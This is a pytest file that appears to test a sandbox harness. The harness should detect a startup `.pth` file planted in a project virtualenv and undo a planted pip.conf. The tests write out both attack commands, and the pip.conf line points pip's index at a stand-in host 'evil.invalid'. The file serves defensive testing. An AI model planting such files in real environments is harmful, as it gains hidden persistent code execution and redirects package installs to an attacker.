"""A project's virtualenv: what its interpreter runs by itself.

Attack (from a red-team review): a `.pth` file planted in
`.venv/lib/python3.X/site-packages` runs on every start of
`.venv/bin/python` (the user's next `pytest`, the interpreter an IDE
starts by itself); virtualenvs are ignored by git, so `git status` shows
nothing. `.venv/pip.conf` is obeyed by that environment's pip.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from escape_kit import PY, consume_control, output, sh

pytestmark = pytest.mark.sandbox


@pytest.fixture
def venv(workspace: Path) -> Path:
    """A real virtualenv in the workspace (no pip: quick)."""
    subprocess.run([PY, "-m", "venv", "--without-pip", str(workspace / ".venv")], check=True,
                   timeout=60)
    return next((workspace / ".venv" / "lib").glob("python3*/site-packages"))


def test_a_startup_file_planted_in_the_project_virtualenv_is_reported(
    workspace: Path, venv: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "PTH-RAN"
    rel = venv.relative_to(workspace)
    proc = sh(workspace, f"echo 'import os; os.system(\"touch {marker}\")' > {rel}/zz_evil.pth; "
                         "echo ran > control.txt")
    consume_control(workspace, proc)
    text = output(proc)
    # the control: the planted file is really there and python runs it
    subprocess.run([str(workspace / ".venv" / "bin" / "python"), "-c", "pass"], check=True)
    assert marker.exists()
    assert "Python startup files were added or changed" in text, text
    assert "zz_evil.pth" in text


def test_a_run_that_leaves_the_virtualenv_alone_reports_nothing_about_it(
    workspace: Path, venv: Path
) -> None:
    proc = sh(workspace, "echo ran > control.txt")
    consume_control(workspace, proc)
    assert "startup files" not in output(proc)


def test_pip_conf_planted_in_the_project_virtualenv_is_undone(
    workspace: Path, venv: Path
) -> None:
    proc = sh(workspace, "printf '[global]\\nindex-url = http://evil.invalid/\\n' > .venv/pip.conf;"
                         " echo ran > control.txt")
    consume_control(workspace, proc)
    assert not (workspace / ".venv" / "pip.conf").exists(), output(proc)
